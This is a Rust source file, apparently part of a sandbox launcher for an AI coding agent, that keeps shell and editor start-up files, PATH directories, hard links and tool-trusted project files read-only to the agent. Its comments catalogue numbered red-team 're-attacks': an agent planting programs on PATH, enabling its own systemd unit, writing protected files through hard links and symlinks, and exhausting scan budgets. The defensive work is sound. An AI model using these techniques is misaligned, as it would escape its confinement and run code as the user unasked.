    "status filename",
    "status dirname",
    "status -f",
    "current-filename",
    "load-file-name",
    // Vim's and Neovim's: its own real name (`fnamemodify(resolve($MYVIMRC), ':p:h')`: the
    // thirty-fifth re-attack's G9), and a command built at run time (`execute 'source' s:dir . …`).
    "MYVIMRC",
    "MYGVIMRC",
    "resolve(",
    "fnamemodify(",
    "stdpath(",
    "debug.getinfo",
    "expand('<",
    "execute ",
    "exe ",
];

/// The repositories (the nearest directory holding `.git`, else the writable root) in the
/// workspace or a `--writable` path that hold one of `startup` (what the user's shell, session and
/// editor run by themselves) or what those read in, when that file finds files by where it lies
/// ([`SELF_LOCATING`]): all of such a repository may be read in, so all of it is read-only to the
/// agent, each with what the user is told. One the user named with `--writable` is the user's say:
/// its files are protected one by one, as before.
fn startup_repositories(
    startup: &[PathBuf],
    homes: &[PathBuf],
    access: &WriteAccess,
    user_paths: &[PathBuf],
) -> Vec<(PathBuf, String)> {
    let roots: Vec<&PathBuf> = access.workspace.iter().chain(user_paths).collect();
    let files: Vec<PathBuf> = startup.iter().filter(|path| path.is_file()).cloned().collect();
    let mut chain: Vec<PathBuf> = files.clone();
    for home in homes {
        chain.extend(super::sourced::read_in(&files, home));
    }
    let mut trees: Vec<(PathBuf, String)> = Vec::new();
    for path in chain {
        let Ok(real) = std::fs::canonicalize(&path) else { continue };
        let Some(root) = roots
            .iter()
            .filter(|root| real.starts_with(root) && real != ***root)
            .max_by_key(|root| root.as_os_str().len())
        else {
            continue;
        };
        // All of the root holding it (the workspace, or a `--writable` path): not only the
        // repository nearest it, which `..`, `${DIR%/*}` and a dozen other spellings climb out
        // of (the thirty-fifth re-attack's G14, the thirty-sixth's H8).
        let tree = (*root).clone();
        if trees.iter().any(|(known, _)| tree.starts_with(known)) || user_paths.contains(&tree) {
            continue;
        }
        let Ok(text) = super::sourced::read_limited(&real) else { continue };
        let Some(spelling) = SELF_LOCATING.iter().find(|spelling| text.contains(*spelling)) else { continue };
        trees.retain(|(known, _)| !known.starts_with(&tree));
        let named = if path == real {
            super::shown(&path)
        } else {
            format!("{} (which is {})", super::shown(&path), super::shown(&real))
        };
        trees.push((
            tree.clone(),
            format!(
                "{} holds what your shell or editor runs by itself: {named} reads in files by where it lies (`{spelling}`), \
                 so all of {} is read-only to the agent: whatever it wrote there could run as you in your next shell\nhint: to let the agent write it all \
                 the same, launch with --writable {} (then only the files found to be read in are kept from it)",
                super::shown(&tree),
                super::shown(&tree),
                super::shown(&tree)
            ),
        ));
    }
    trees
}

/// `path` and the names it leads to as each link's text says (not resolved: the links on the way
/// are what the agent could replace), at most [`MAX_LINKS_FOLLOWED`] links.
fn written_way(path: &Path) -> Vec<PathBuf> {
    let mut way = vec![path.to_path_buf()];
    let mut current = path.to_path_buf();
    for _ in 0..MAX_LINKS_FOLLOWED {
        // A link anywhere on the way: its first component that is a link, replaced by its text.
        let mut prefix = PathBuf::new();
        let mut next = None;
        for part in current.components() {
            prefix.push(part);
            if let Ok(said) = std::fs::read_link(&prefix) {
                let rest = current.strip_prefix(&prefix).unwrap_or(Path::new(""));
                let target = prefix.parent().unwrap_or(Path::new("/")).join(said);
                next = Some(super::repositories::without_dot_dots(&target.join(rest)));
                break;
            }
        }
        let Some(next) = next else { break };
        way.push(next.clone());
        current = next;
    }
    way
}

/// An agent's own directory or file (`~/.claude`, `~/.claude.json`) resolved link by link,
/// following no link inside `untrusted` (a stow-style `~/.claude -> dotfiles/claude/.claude`
/// whose `claude` an agent working in `~/dotfiles` replaced: the twenty-seventh re-attack);
/// `None` when nothing is there. Refuses the launch when such a link is on its way.
fn own_path(path: &Path, untrusted: &[PathBuf]) -> anyhow::Result<Option<PathBuf>> {
    match super::home_view::resolve_following_trusted_links(path, untrusted) {
        Ok(resolved) => Ok(Some(resolved)),
        Err(None) => Ok(None),
        Err(Some(link)) => anyhow::bail!(
            "{}: {} on its way is a link in what an agent could write at an earlier launch, so it is not \
             followed\nhint: if you trust where it leads ({}), replace the link with the directory or file itself",
            super::shown(path),
            super::shown(&link),
            std::fs::canonicalize(&link).map_or_else(|_| "nowhere now".to_string(), |real| super::shown(&real))
        ),
    }
}

/// What a directory on `PATH` is to the user, in [`startup_locations`].
const ON_PATH: &str = "a directory on your PATH, whose programs you run by name";

/// What runs as the user later, where it really is: the start-up locations (`STARTUP_FILES` in
/// each home, under the XDG directories and `ZDOTDIR` where they are moved) and the directories
/// on `PATH` (a `git` the agent leaves in `~/bin` runs when the user types `git`: the
/// twenty-eighth re-attack), those that exist; each with what it is to the user.
fn startup_locations(env: &LaunchEnv) -> Vec<(PathBuf, &'static str)> {
    let startup = startup_names(env).into_iter().map(|path| (path, "what your shell, session or editor runs"));
    let path_dirs =
        env.var(super::PATH).map(|path| std::env::split_paths(path).collect::<Vec<_>>()).unwrap_or_default();
    // And the home's program directories a login shell puts on `PATH` when they exist, whatever
    // the launch's `PATH` says (the thirty-fifth re-attack's G18: `~/bin` as the workspace).
    let login_path = [&env.home_dir]
        .into_iter()
        .chain(&env.account_home)
        .flat_map(|home| [home.join("bin"), home.join(".local/bin")]);
    let programs = path_dirs
        .into_iter()
        .chain(login_path)
        .filter(|dir| dir.is_absolute() && dir.parent().is_some())
        .map(|dir| (dir, ON_PATH));
    // Where each really is; one that leads to `/` (an entry through a link an agent left) would
    // make every directory one.
    let mut locations: Vec<(PathBuf, &'static str)> = startup
        .chain(programs)
        .filter_map(|(path, what)| Some((std::fs::canonicalize(path).ok()?, what)))
        .filter(|(path, _)| path.parent().is_some())
        .collect();
    locations.sort();
    locations.dedup_by(|a, b| a.0 == b.0);
    locations
}

/// Why `root` (canonical) cannot be a root the agent writes, if it cannot: it is or lies in a
/// start-up location (what the user's shell, session or editor runs: a protected name equal to a
/// root is no protection at all: `cd ~/proj/deploy`, a link to `~/.config/systemd/user`, made it
/// the workspace, and the agent enabled a unit of its own — the twenty-seventh re-attack), or
/// in a repository's git directory (its hooks and config run as the user).
fn unfit_root(root: &Path, startup_locations: &[(PathBuf, &'static str)]) -> Option<String> {
    // A start-up location runs what lies anywhere in it (`~/.vim/pack/*/start/*/plugin`); a
    // directory on PATH only the programs directly in it (a directory below one is harmless).
    let covers = |location: &PathBuf, what: &str| {
        if what == ON_PATH { root == location.as_path() } else { root.starts_with(location) }
    };
    if let Some((location, what)) = startup_locations.iter().find(|(location, what)| covers(location, what)) {
        let inside = if root == location { "" } else { "in " };
        return Some(format!("is {inside}{what} ({})", super::shown(location)));
    }
    if root.components().any(|part| part.as_os_str() == ".git") || super::git::is_git_directory(root) {
        return Some("is in a repository's git directory, whose hooks and config your git runs".to_string());
    }
    None
}

/// Entries looked at inside read-only directories for files with other names, at most.
const MAX_LINK_CHECKS: usize = 20_000;

/// Gives each protected file inside what the agent may write an inode of its own when it has other
/// names (hard links), and says which: protection is by name, and a hard link an agent made in an
/// earlier session, while the file was still its own (`ln .git/config .editorconfig-cache` after
/// its `git init`), wrote the protected file through the other name (the twenty-third re-attack).
/// The protected name gets a copy (its bytes and mode, renamed into place); the other names keep
/// the old inode. The read-only paths' files are looked at, directories' to [`MAX_LINK_CHECKS`].
pub fn separate_hard_links(read_only: &[PathBuf], writable: &[PathBuf]) -> Vec<String> {
    use std::os::unix::fs::MetadataExt;
    let inside = |path: &Path| writable.iter().any(|root| path.starts_with(root) && path != root);
    let mut files = Vec::new();
    let mut budget = MAX_LINK_CHECKS;
    let mut pending: Vec<PathBuf> = read_only.iter().filter(|path| inside(path)).cloned().collect();
    while let Some(path) = pending.pop() {
        if budget == 0 {
            break;
        }
        budget -= 1;
        let Ok(metadata) = std::fs::symlink_metadata(&path) else { continue };
        if metadata.is_dir() {
            if let Ok(entries) = std::fs::read_dir(&path) {
                pending.extend(entries.flatten().map(|entry| entry.path()));
            }
        } else if metadata.is_file() && metadata.nlink() > 1 {
            files.push((path, metadata));
        }
    }
    let mut notes = Vec::new();
    for (file, metadata) in files {
        // The copy goes through a new file of a random name made with `O_EXCL` (`write_atomic`),
        // and the original is read without following a link, as the inode looked at: a name
        // chosen here was one an agent could plant a link at, and the launcher, unconfined,
        // wrote through it (the twenty-fifth re-attack).
        let separated = read_same_file(&file, &metadata)
            .and_then(|bytes| crate::platform::home::write_atomic(&file, &bytes, metadata.mode() & 0o7777));
        match separated {
            Ok(()) => notes.push(format!(
                "{} had other names (hard links) in what the agent may write: it now has its own copy, so writing \
                 them does not change it",
                super::shown(&file)
            )),
            Err(error) => {
                notes.push(format!(
                    "{} has other names (hard links), and its own copy could not be made ({error}): the agent can \
                     change it through them\nhint: remove the other names, then launch again",
                    super::shown(&file)
                ));
            }
        }
    }
    notes
}

/// Links followed from the links kept on the way to what is protected, at most (the kernel's own
/// limit for one path).
const MAX_LINKS_FOLLOWED: usize = 40;

/// Notes for the entries of the user's `PATH` the agent could put programs in: relative ones
/// (`node_modules/.bin`, `.`: wherever the user's shell stands, the workspace among them) and
/// those inside what it may write (`~/.claude/local`, where Claude Code installs itself). A
/// program named `git` there runs when the user next types `git` (the seventh re-attack). They
/// are not made read-only: the agent updates itself there.
fn path_notes(env: &LaunchEnv, writable: &[PathBuf], notes: &mut Vec<String>) {
    let Some(path) = env.var(super::PATH) else { return };
    for entry in std::env::split_paths(path) {
        // Where it really is: `~/.local/bin -> ../dotfiles/bin` lies in a dotfiles workspace (the
        // twenty-first re-attack).
        let real = if entry.is_absolute() { super::repositories::resolved(&entry) } else { entry.clone() };
        let inside = writable.iter().find(|dir| real.starts_with(dir) && !dir.starts_with("/dev"));
        let why = match inside {
            _ if entry.is_relative() => "is relative, so it names a directory in whatever directory you run a command \
                                         in, the agent's workspace among them"
                .to_string(),
            Some(dir) => format!("lies in {}, which the agent may write", super::shown(dir)),
            None => continue,
        };
        notes.push(format!(
            "{} on your PATH {why}: a program the agent puts there (a `git`, an `ls`) runs as you when you type its \
             name\nhint: look at what changed there after the session, or keep that entry off PATH",
            super::shown(&entry)
        ));
    }
}

/// The relative entries (`./node_modules/.bin`, `bin`, `.`) that `files` put on `PATH` by an
/// assignment (`PATH=`, `export PATH=`, `PATH+=`), each with the first file that does.
fn relative_path_entries(files: &[PathBuf]) -> Vec<(String, PathBuf)> {
    let mut found: Vec<(String, PathBuf)> = Vec::new();
    for file in files {
        let Ok(text) = super::sourced::read_limited(file) else { continue };
        for line in text.lines().map(str::trim).filter(|line| !line.starts_with('#')) {
            let mut rest = line;
            while let Some(at) = rest.find("PATH=").or_else(|| rest.find("PATH+=")) {
                let before = rest[..at].chars().next_back();
                let value = rest[at..].split_once('=').map_or("", |(_, value)| value);
                rest = value;
                // `PATH` itself, not `MANPATH` or `PYTHONPATH`.
                if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                    continue;
                }
                let value = value.split(|c: char| c.is_whitespace() || c == ';').next().unwrap_or_default();
                for entry in value.trim_matches(|c| c == '"' || c == '\'').split(':') {
                    let entry = entry.trim_matches(|c| c == '"' || c == '\'');
                    let absolute = entry.starts_with(['/', '$', '~', '`']) || entry.is_empty();
                    if !absolute && !found.iter().any(|(seen, _)| seen == entry) {
                        found.push((entry.to_string(), file.clone()));
                    }
                }
            }
        }
    }
    found
}

/// The links in the home that lead into what the agent may write but not to one such root itself:
/// the user's own configuration kept there. Its entries and, in its dot-directories, every level
/// down to [`LINK_DEPTH`] (`~/.config/gh/config.yml`, `~/.config/Code/User/settings.json`,
/// `~/.local/share/jupyter/kernels/x/kernel.json`: the thirtieth re-attack's B5 wrote through
/// links three to five levels down), caches and toolchains' stores not entered; at most
/// [`MAX_LINK_ENTRIES`] entries are looked at.
fn links_into(home: &Path, writable: &[PathBuf]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut budget = MAX_LINK_ENTRIES;
    let mut dirs = std::collections::VecDeque::from([(home.to_path_buf(), 0)]);
    while let Some((dir, depth)) = dirs.pop_front() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            if budget == 0 {
                return found;
            }
            budget -= 1;
            let Ok(kind) = entry.file_type() else { continue };
            let path = entry.path();
            let name = entry.file_name();
            if kind.is_symlink() {
                let Ok(real) = std::fs::canonicalize(&path) else { continue };
                // Not one of the roots itself (the agent's own directory by the user's link).
                if !writable.contains(&real) && writable.iter().any(|root| real.starts_with(root)) {
                    found.push(path);
                }
            } else if kind.is_dir()
                && depth < LINK_DEPTH
                && (depth > 0 || name.to_string_lossy().starts_with('.'))
                && !NOT_ENTERED_FOR_LINKS.iter().any(|skipped| name == *skipped)
                && !writable.contains(&path)
            {
                dirs.push_back((path, depth + 1));
            }
        }
    }
    found
}

/// Where in `roots` (the workspace and `--writable` paths) a tool runs a file of the directory it
/// starts in because the user's own settings trust it, and the names it runs: gdb's `.gdbinit`
/// under an `auto-load safe-path`, vim's `.exrc`, `.vimrc`, `.nvimrc` and `.nvim.lua` where `exrc`
/// is set, lldb's `.lldbinit` where `target.load-cwd-lldbinit` is on, and the `.envrc` (and `.env`
/// with `load_dotenv`) direnv loads without `direnv allow` under a whitelisted prefix (an `exact`
/// one: that file). Each a directory and the names in it and every directory below it (the
/// thirty-fourth re-attack's F6, the thirty-fifth's G3 below the top).
pub fn trusted_project_files(env: &LaunchEnv, roots: &[PathBuf]) -> Vec<(PathBuf, Names)> {
    let home = &env.home_dir;
    let config = env.config_home();
    // A setting may be in a file the named one reads in (`source ~/.gdb/settings.gdb`, vim's
    // `source ~/.vim/options.vim`: the thirty-sixth re-attack's H29): those are read too.
    let text = |paths: &[PathBuf]| -> String {
        let read_in = super::sourced::read_in(paths, home).into_iter().filter(|path| path.is_file());
        let files: Vec<PathBuf> = paths.iter().cloned().chain(read_in).collect();
        files.iter().filter_map(|path| super::sourced::read_limited(path).ok()).collect::<Vec<_>>().join("\n")
    };
    let expand = |word: &str| -> PathBuf {
        let word = word.trim_matches(|c: char| c.is_whitespace() || "\"',[]".contains(c));
        by_home(home, &word.replace("${HOME}", "~").replace("$HOME", "~"))
    };
    let covered = |dir: &Path| covered_by(dir, roots);
    let mut scopes: Vec<(PathBuf, Names)> = Vec::new();
    // The files gdb, vim, Neovim and lldb run from the directory they start in have no other use,
    // and whether the user's settings let them run cannot be told from those settings' many
    // spellings (the thirty-seventh re-attack's I1 and I2: `set  auto-load safe /`, a Python
    // block, `gdbearlyinit`; `set invexrc`, `exe 'set ex' . 'rc'`, `runtime options.vim`): in
    // every root, whatever the settings say.
    scopes.extend(roots.iter().map(|root| (root.clone(), static_names(&PROJECT_START_UP_FILES))));
    // gdb's scripts beside a program it loads (H30), where its settings may let it load them: any
    // spelling of `auto-load` with `safe`, or a Python or Guile block (what it sets cannot be
    // read), and the roots are taken as covered.
    let gdb = text(&[
        home.join(".gdbinit"),
        home.join(".gdbearlyinit"),
        config.join("gdb/gdbinit"),
        config.join("gdb/gdbearlyinit"),
    ]);
    let gdb = gdb.to_ascii_lowercase();
    let loads_scripts = gdb.lines().map(str::trim).filter(|line| !line.starts_with('#')).any(|line| {
        let words: Vec<&str> = line.split(|c: char| c.is_whitespace() || c == '(' || c == '"').collect();
        (line.contains("auto-load") && line.contains("safe"))
            || words.first().is_some_and(|word| matches!(*word, "python" | "py" | "pi" | "guile" | "gu" | "gr"))
    });
    if loads_scripts {
        scopes.extend(roots.iter().map(|root| (root.clone(), static_names(&GDB_TRUSTED))));
    }
    // direnv: `[whitelist] prefix = [...]`, `exact = [...]`, `[global] load_dotenv`, as TOML.
    for file in [config.join("direnv/direnv.toml"), config.join("direnv/config.toml")] {
        let Ok(parsed) = text(std::slice::from_ref(&file)).parse::<toml::Table>() else { continue };
        let dotenv = parsed.get("global").and_then(|global| global.get("load_dotenv")).and_then(toml::Value::as_bool)
            == Some(true);
        let names = static_names(if dotenv { &[".envrc", ".env"] } else { &[".envrc"] });
        let listed = |key: &str| -> Vec<PathBuf> {
            let values = parsed.get("whitelist").and_then(|list| list.get(key)).and_then(toml::Value::as_array);
            values.into_iter().flatten().filter_map(toml::Value::as_str).map(expand).collect()
        };
        for prefix in listed("prefix") {
            scopes.extend(covered(&prefix).into_iter().map(|scope| (scope, names.clone())));
        }
        // An exact `.envrc`: its directory's, that name alone (found by the walk below it too).
        for exact in listed("exact") {
            let dir = exact.parent().map(Path::to_path_buf).unwrap_or_default();
            let exact = covered(&dir).into_iter().filter(|scope| *scope == dir);
            scopes.extend(exact.map(|scope| (scope, static_names(&[".envrc"]))));
        }
    }
    scopes
}

/// The names a tool runs in a trusted scope ([`WriteAccess::trusted`]): a file's name (`*` for
/// any run of characters), or a path ending with `/` parts (`.venv/bin/activate`), looked for
/// below every directory of the scope.
pub type Names = Vec<std::borrow::Cow<'static, str>>;

/// [`Names`] of names known when built.
pub fn static_names(names: &[&'static str]) -> Names {
    names.iter().map(|name| std::borrow::Cow::Borrowed(*name)).collect()
}

/// What gdb runs from a directory its `auto-load safe-path` covers: the `.gdbinit` of the
/// directory it starts in, and the script beside a program or library it loads, named after it
/// (`app-gdb.py` beside `app`: the thirty-sixth re-attack's H30 ran one as the user merely loaded
/// `target/debug/app`). The walk for these enters build output (`target/`, `build/`), where
/// programs are.
const GDB_TRUSTED: [&str; 4] = [".gdbinit", "*-gdb.py", "*-gdb.gdb", "*-gdb.scm"];

/// What gdb, vim, Neovim and lldb run from the directory they start in, where the user's settings
/// let them ([`trusted_project_files`]: kept in every root whatever the settings say).
/// And mise's `.miserc.toml`, `.miserc.local.toml` and `.config/miserc.toml`, read in any
/// directory without trust, which rename the configs and version files mise reads there (the
/// fortieth re-attack's L6, L10; the forty-third's P3).
const PROJECT_START_UP_FILES: [&str; 11] = [
    ".gdbinit",
    ".exrc",
    ".vimrc",
    ".nvimrc",
    ".nvim.lua",
    "_exrc",
    "_vimrc",
    ".lldbinit",
    ".miserc.toml",
    ".miserc.local.toml",
    ".config/miserc.toml",
];

/// Whether a file's name is `wanted`, or matches it where it holds one `*` (`mise.*.toml`).
pub fn name_matches(name: &str, wanted: &str) -> bool {
    match wanted.split_once('*') {
        Some((before, after)) => {
            name.len() >= before.len() + after.len() && name.starts_with(before) && name.ends_with(after)
        }
        None => name == wanted,
    }
}

/// Trusted scopes for the names read in that begin with a variable no start-up file sets
/// (`"$DOTFILES"/shell/aliases.sh`, with `DOTFILES` anywhere in the workspace) or that follow a `cd
/// "$@"` (`.venv/bin/activate`, in whatever directory the user enters): each root of `roots` (the
/// workspace, the `--writable` paths), looked through for the part before a pattern's first
/// wildcard below every directory, at any depth — there at launch, read-only; made in the session,
/// moved aside at its end (the thirty-sixth re-attack's H25 made a `.venv` two levels down, and
/// one of its own, for the user's auto-activating `cd`). A name of one part (`bin`, `init.sh`)
/// names too much to keep everywhere (a build's `bin/`, moved aside, would take the agent's work
/// from it) unless `single_anywhere`: it is kept where it is at each root's top and one directory
/// down, the second of what is returned.
fn tail_scopes(tails: &[String], roots: &[PathBuf], single_anywhere: bool) -> (Vec<(PathBuf, Names)>, Vec<PathBuf>) {
    let mut known: Vec<String> = Vec::new();
    let mut near_top: Vec<PathBuf> = Vec::new();
    for tail in tails {
        let part: PathBuf = Path::new(tail)
            .components()
            .take_while(|part| !part.as_os_str().to_string_lossy().contains(['*', '?', '[']))
            .collect();
        let part = super::repositories::without_dot_dots(&part);
        if part.as_os_str().is_empty() || part.is_absolute() || part.starts_with("..") {
            continue;
        }
        if part.components().count() == 1 && !single_anywhere {
            for root in roots {
                let children = std::fs::read_dir(root).into_iter().flatten().flatten().take(10_000);
                let dirs = children.filter(|child| child.file_type().is_ok_and(|kind| kind.is_dir()));
                let bases = std::iter::once(root.clone()).chain(dirs.map(|child| child.path()));
                near_top
                    .extend(bases.map(|base| base.join(&part)).filter(|path| std::fs::symlink_metadata(path).is_ok()));
            }
            continue;
        }
        // Always a path (`./x.sh` for a name alone): looked for below each directory.
        known.push(format!("./{}", part.display()));
    }
    known.sort();
    known.dedup();
    if known.is_empty() {
        return (Vec::new(), near_top);
    }
    let names: Names = known.into_iter().map(std::borrow::Cow::Owned).collect();
    (roots.iter().map(|root| (root.clone(), names.clone())).collect(), near_top)
}

/// Whether `path` is what `wanted` (one of a trusted scope's [`Names`]) names: by its file name,
/// or, for a path (`./.venv/bin/activate`), by how it ends.
pub fn is_named(path: &Path, wanted: &str) -> bool {
    match wanted.strip_prefix("./") {
        Some(tail) => ends_with_tail(path, tail),
        None if wanted.contains('/') => ends_with_tail(path, wanted),
        None => name_matches(&path.file_name().unwrap_or_default().to_string_lossy(), wanted),
    }
}

/// Whether `path` ends with the parts of `tail`, its last a name pattern ([`name_matches`]:
/// `mise/config.*.toml`).
fn ends_with_tail(path: &Path, tail: &str) -> bool {
    let tail = Path::new(tail);
    let (Some(name), Some(wanted)) = (path.file_name(), tail.file_name()) else { return false };
    name_matches(&name.to_string_lossy(), &wanted.to_string_lossy())
        && path.parent().is_some_and(|dir| dir.ends_with(tail.parent().unwrap_or(Path::new(""))))
}

/// Entries looked at below each trusted scope for the names a tool runs there, at launch and at exit.
pub const TRUSTED_WALK_BUDGET: usize = 100_000;

/// The files named as `scopes` say found in each scope and the directories below it (links not
/// followed; caches, dependencies and git directories not entered), at most
/// [`TRUSTED_WALK_BUDGET`] entries each.
pub fn trusted_files_in(scopes: &[(PathBuf, Names)]) -> Vec<PathBuf> {
    trusted_files_told(scopes).0
}

/// [`trusted_files_in`], and the scopes whose walk its budget cut short (the thirty-sixth
/// re-attack's H11 filled a directory with 20,001 files ahead of the one it planted in): what is
/// past the budget is not known, and the caller says so.
pub fn trusted_files_told(scopes: &[(PathBuf, Names)]) -> TrustedFound {
    trusted_files_of_sets(&[scopes], None).pop().unwrap_or_default()
}

/// The files a set of trusted scopes' names found, and its scopes a walk's budget cut short.
pub type TrustedFound = (Vec<PathBuf>, Vec<PathBuf>);

/// [`trusted_files_told`] for several sets of scopes (at most 64) in one walk a directory (the
/// exit looks for the trusted files and the `.tool-versions` below the workspace: one walk of a
/// large tree, not two): for each set, the files its names found and its scopes the budget cut
/// short.
///
/// `skipped`: one set whose names are also looked for, whole, in the directories the walk skips
/// by name (but `.git`), those the project's own `.gitignore` files do not surely ignore
/// ([`super::git::surely_ignored`]): git lists what is made there, so a `.gitignore` of `*` made
/// in `tests/target/` or `.cache/` hid a `conftest.py` or a `*.test.js` beside it from `git
/// status`, and `pytest` and `node --test` enter those names (the forty-seventh re-attack's G1,
/// the forty-eighth's G2, the forty-ninth's M1 and K1: a level below a tracked one, one carried in
/// by a renamed directory, a nested `node_modules`). What the project ignores is hidden by the
/// user's choice, and its `target`, `.venv` and `node_modules` are large.
pub fn trusted_files_of_sets(
    sets: &[&[(PathBuf, Names)]],
    mut skipped_dirs: Option<&mut SkippedLookedAt>,
) -> Vec<TrustedFound> {
    // Each name wanted in a directory, with the sets that want it (a bit a set).
    type Wanted<'a> = Vec<(&'a str, u64)>;
    // Each path found, with the sets whose names found it.
    type Tagged = Vec<(PathBuf, u64)>;
    let (mut found, mut cut_short): (Tagged, Tagged) = (Vec::new(), Vec::new());
    // One walk a directory, for all the names wanted there.
    let mut merged: std::collections::BTreeMap<&PathBuf, Wanted> = std::collections::BTreeMap::new();
    for (set, scopes) in sets.iter().enumerate().take(64) {
        for (scope, names) in scopes.iter() {
            let wanted = merged.entry(scope).or_default();
            for name in names {
                match wanted.iter_mut().find(|(known, _)| *known == name.as_ref()) {
                    Some((_, bits)) => *bits |= 1 << set,
                    None => wanted.push((name.as_ref(), 1 << set)),
                }
            }
        }
    }
    for (scope, names) in merged {
        // gdb's scripts lie beside what a build makes: its output is entered for them.
        let in_builds = names.iter().any(|(name, _)| name.contains("-gdb."));
        let skipped = if in_builds { &[][..] } else { &["target", ".venv"][..] };
        let entered = |entry: &std::fs::DirEntry| {
            let name = entry.file_name();
            !NOT_ENTERED_IN_TRUSTED_WALKS.iter().chain(skipped).any(|skip| name == *skip)
        };
        // The directories not entered by name, for `skipped`'s set.
        let skipped_set = skipped_dirs
            .as_ref()
            .map(|skipped| skipped.set)
            .filter(|set| names.iter().any(|(_, bits)| bits & (1 << set) != 0));
        let not_entered = std::cell::RefCell::new(Vec::new());
        // The `.git` entries the walk meets, any case (git skips `.GIT` too under
        // `core.ignorecase`), wherever it goes: the fifty-first re-attack put one in `.tox`, which
        // this walk enters and the search for repositories skips (Y2), and in a `target` a gdb
        // setting has this walk enter (Y6).
        let git_seen = std::cell::RefCell::new(Vec::new());
        // A path (`.venv/bin/activate`) is looked for below each directory, without entering
        // what it goes through (a `.venv` holds thousands of files).
        let (paths, names): (Wanted, Wanted) = names.into_iter().partition(|(name, _)| name.contains('/'));
        let below = |dir: &Path, found: &mut Vec<(PathBuf, u64)>| {
            for (path, bits) in &paths {
                let path = dir.join(path.strip_prefix("./").unwrap_or(path));
                let Some(pattern) =
                    path.file_name().map(|name| name.to_string_lossy()).filter(|name| name.contains('*'))
                else {
                    if std::fs::symlink_metadata(&path).is_ok() {
                        found.push((path, *bits));
                    }
                    continue;
                };
                // A pattern after a directory (`mise/config.*.toml`): that directory's entries.
                let Some(parent) = path.parent().filter(|parent| parent.is_dir()) else { continue };
                let entries = std::fs::read_dir(parent).into_iter().flatten().flatten().take(1_000);
                found.extend(
                    entries
                        .filter(|entry| name_matches(&entry.file_name().to_string_lossy(), &pattern))
                        .map(|entry| (entry.path(), *bits)),
                );
            }
        };
        below(scope, &mut found);
        // A link to a directory the walk does not enter, in the scope (`tools -> .git/info/tools`:
        // the tools resolve where they stand, and trust it there: the thirty-seventh re-attack's
        // I9), is walked where it leads.
        let real_scope = std::fs::canonicalize(scope).unwrap_or_else(|_| scope.clone());
        let mut linked: Vec<PathBuf> = Vec::new();
        let visit = |entry: &std::fs::DirEntry,
                     kind: std::fs::FileType,
                     found: &mut Vec<(PathBuf, u64)>,
                     linked: &mut Vec<PathBuf>| {
            // The name read once an entry (a walk meets 100,000 of them, each held against every
            // name wanted).
            let name = entry.file_name();
            let name = name.to_string_lossy();
            let bits =
                names.iter().filter(|(wanted, _)| name_matches(&name, wanted)).fold(0, |all, (_, bits)| all | bits);
            if bits != 0 {
                found.push((entry.path(), bits));
            }
            if kind.is_dir() && !paths.is_empty() {
                below(&entry.path(), found);
            }
            if kind.is_dir() && skipped_set.is_some() && !entered(entry) && name != ".git" {
                not_entered.borrow_mut().push(entry.path());
            }
            if skipped_set.is_some() && is_git_entry(&name) {
                git_seen.borrow_mut().push(entry.path());
            }
            if kind.is_symlink()
                && let Ok(target) = std::fs::canonicalize(entry.path())
                && target.is_dir()
                && let Ok(inside) = target.strip_prefix(&real_scope)
                && inside.iter().any(|part| {
                    NOT_ENTERED_IN_TRUSTED_WALKS.iter().chain(&["target", ".venv"]).any(|skip| part == *skip)
                })
                && linked.len() < 64
            {
                linked.push(target);
            }
        };
        let mut whole = walk_entering(vec![scope.clone()], TRUSTED_WALK_BUDGET, entered, |entry, kind| {
            visit(entry, kind, &mut found, &mut linked);
        });
        linked.sort();
        linked.dedup();
        for target in linked {
            below(&target, &mut found);
            // (Links there are not followed in turn.)
            whole &= walk_entering(
                vec![target],
                TRUSTED_WALK_BUDGET,
                |_| true,
                |entry, kind| {
                    visit(entry, kind, &mut found, &mut Vec::new());
                },
            );
        }
        if !whole {
            let bits = paths.iter().chain(&names).fold(0, |all, (_, bits)| all | bits);
            cut_short.push((scope.clone(), bits));
        }
        if let (Some(set), Some(skipped)) = (skipped_set, skipped_dirs.as_deref_mut()) {
            skipped.git_entries.extend(git_seen.into_inner());
            let since = skipped.since.unwrap_or(i128::MAX);
            let (mut looked, mut changed_only) = (Vec::new(), Vec::new());
            for dir in not_entered.into_inner() {
                if super::git::surely_ignored(scope, &dir, since) {
                    skipped.ignored.push(dir);
                } else if skipped.ignored_at_launch.contains(&dir) {
                    changed_only.push(dir);
                } else {
                    looked.push(dir);
                }
            }
            let wanted: Vec<&str> =
                names.iter().filter(|(_, bits)| bits & (1 << set) != 0).map(|(name, _)| *name).collect();
            let mut whole = true;
            for (dirs, only_changed) in [(looked, false), (changed_only, true)] {
                whole &= dirs.is_empty()
                    || walk_entering(
                        dirs,
                        TRUSTED_WALK_BUDGET,
                        |entry| !is_git_entry(&entry.file_name().to_string_lossy()),
                        |entry, _| {
                            let name = entry.file_name();
                            if is_git_entry(&name.to_string_lossy())
                                && (!only_changed || super::git::changed_since(&entry.path(), since))
                            {
                                skipped.git_entries.push(entry.path());
                            }
                            let name = name.to_string_lossy();
                            if wanted.iter().any(|wanted| name_matches(&name, wanted))
                                && (!only_changed || super::git::changed_since(&entry.path(), since))
                            {
                                found.push((entry.path(), 1 << set));
                            }
                        },
                    );
            }
            if !whole {
                cut_short.push((scope.clone(), 1 << set));
            }
        }
    }
    let of_set = |listed: &[(PathBuf, u64)], set: usize| -> Vec<PathBuf> {
        let mut paths: Vec<PathBuf> =
            listed.iter().filter(|(_, bits)| bits & (1 << set) != 0).map(|(path, _)| path.clone()).collect();
        paths.sort();
        paths.dedup();
        paths
    };
    (0..sets.len().min(64)).map(|set| (of_set(&found, set), of_set(&cut_short, set))).collect()
}

/// Whether an entry named `name` is one below which git lists nothing: `.git` in any case, since
/// git compares it folded under `core.ignorecase` (the fifty-first re-attack's Y3: `lib/.Git/`).
pub fn is_git_entry(name: &str) -> bool {
    name.eq_ignore_ascii_case(".git")
}

/// Where one set's names (the `.gitignore` files) are also looked for in the directories the
/// walks skip by name ([`trusted_files_of_sets`]), at launch and at the exit alike.
pub struct SkippedLookedAt<'a> {
    /// The set of names looked for there.
    pub set: usize,
    /// At the exit, the moment of the launch, as file times read it: an ignore file changed
    /// since then is not taken at its word ([`super::git::surely_ignored`]). At launch, none.
    pub since: Option<i128>,
    /// At the exit, those found surely ignored at launch: one looked through now (its ignore
    /// rules changed) has a file counted only when the file changed since the launch, since what
    /// was there at launch was not looked at.
